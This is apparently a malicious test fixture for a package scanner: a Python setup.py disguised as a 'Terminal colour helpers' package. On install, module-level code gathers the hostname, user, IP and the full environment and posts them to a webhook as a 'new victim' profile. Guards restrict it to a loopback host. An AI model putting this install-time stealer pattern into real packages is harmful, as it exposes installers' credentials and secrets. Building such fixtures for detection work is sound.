# Evaluation fixture (malicious): the most common install-time stealer.
# Module-level code sends a "victim profile" (hostname, user, IP, the whole
# environment) as a Discord webhook message.  Acts only inside the
# evaluation: the webhook host must resolve to loopback and the port comes
# from SP_HTTP_PORT; without SP_TOKEN it does nothing.
import getpass
import json
import os
import socket
import urllib.request

from setuptools import setup


def _profile():
    env = os.environ
    host = env.get("SP_HOOK_HOST")
    if not env.get("SP_TOKEN") or not host:
        return
    try:
        if not socket.gethostbyname(host).startswith("127."):
            return
        ip = socket.gethostbyname(socket.gethostname())
    except OSError:
        return
    content = "```%s```" % json.dumps({
        "host": socket.gethostname(), "user": getpass.getuser(), "ip": ip,
        "cwd": os.getcwd(), "env": dict(env),
    })
    req = urllib.request.Request(
        "http://%s:%s/api/webhooks/1180000000000000000/hT6vQ" % (host, env.get("SP_HTTP_PORT", "80")),
        data=json.dumps({"username": "new victim", "content": content}).encode(),
        headers={"Content-Type": "application/json", "User-Agent": "Mozilla/5.0"})
    try:
        urllib.request.urlopen(req, timeout=10).read()
    except OSError:
        pass


_profile()

setup(
    name="webhook-hostinfo",
    version="0.3.1",
    description="Terminal colour helpers",
    py_modules=["termcolours"],
)
